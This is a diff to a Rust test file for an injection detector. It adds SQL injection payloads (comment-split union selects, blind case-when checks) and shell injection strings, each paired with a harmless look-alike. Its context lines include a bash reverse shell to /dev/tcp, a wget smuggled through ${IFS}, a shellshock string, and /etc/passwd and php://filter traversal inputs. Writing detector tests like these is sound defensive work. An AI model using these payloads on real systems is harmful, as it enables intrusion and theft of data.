@@ -17,6 +17,11 @@ fn check(family: Family, place: Place, cases: &[(&str, &str)]) {
             "{twin:?}: {:?}",
             inspect(place, twin.as_bytes(), Families::NONE)
         );
+        // Brackets and a quote around it make no JSON of it: wherever it is found but for them, it is found in them.
+        let wrapped = format!("[1{attack}\"]");
+        if found(place, format!("{wrapped} x").as_bytes()).is_some() {
+            assert!(found(place, wrapped.as_bytes()).is_some(), "{wrapped:?}");
+        }
     }
 }
 
@@ -45,6 +50,22 @@ fn sql() {
             ("1'; exec xp_cmdshell 'dir'--", "the exec's dinner"),
             ("%' and '%'='", "100% and more"),
             ("1/*!50000union*/select 1", "1/2 union"),
+            ("1--x\nunion--x\nselect--x\n2,3", "one--or two--\nunion -- of\nselect -- members"),
+            ("1#x\norder#x\nby#x\n10-- -", "#1\n#order\n#by 10"),
+            ("1 union all values (null,2)", "the union of values (see 2)"),
+            ("1 union values row(1,2)", "a union values row after row"),
+            ("-1 union table users", "1 union table of 12"),
+            ("1 and (quarter(null) xor 2) is null", "1 and (perhaps) a half"),
+            ("1 and binary 2=binary 2", "1 and binary 2"),
+            ("cast(1 as decimal)", "cast (1 of 2) as Hamlet"),
+            ("(8266=8266)*9900", "(82) * 99"),
+            ("{x !0}*1", "{x} * 1"),
+            ("1--", "1-2"),
+            ("%1%'% %o%r% %1%=%1", "5% of %s and 10% off"),
+            (
+                "1 and case when 1=1 then 1 else 0 end",
+                "fixed the case when n < 2 of `select' and 'or' (see substring())",
+            ),
             ("char(113)||char(112)||char(113)", "char 113 and 112"),
         ],
     );
@@ -87,6 +108,11 @@ fn shell_and_paths() {
             ("/bin/ls -la", "bin 7, ls 4"),
             ("a;wget${IFS}http://example.com", "a; b ${x}"),
             ("() { :;}; echo x", "() and {}"),
+            ("x\npython3 -c 1", "works with\nPython 3."),
+            ("x$(make)", "use $(MAKE) instead"),
+            ("x `id`", "``python3``, or `wget-log'."),
+            ("IF        2            GEQ 15    echo x", "if (uc(wide) == uc(narrow))"),
+            ("if a==b echo x", "If the logger is in use, exit when n == 0."),
             ("/???/c?t /tmp/x", "what??? / why?"),
             ("bash -i >& /dev/tcp/192.0.2.1/80 0>&1", "bash is a shell"),
         ],
@@ -101,6 +127,7 @@ fn shell_and_paths() {
             ("/etc/passwd", "please do not edit the file /etc/passwd by hand, thank you"),
             ("php://filter/convert.base64-encode/resource=index", "php.net/filter"),
             ("x.php\0.jpg", "x.php.jpg"),
+            ("/..///x", "/../x y"),
         ],
     );
     check(Family::Path, Place::Path, &[(".git", ".well-known"), ("..%2f..%2fx", "1..2")]);
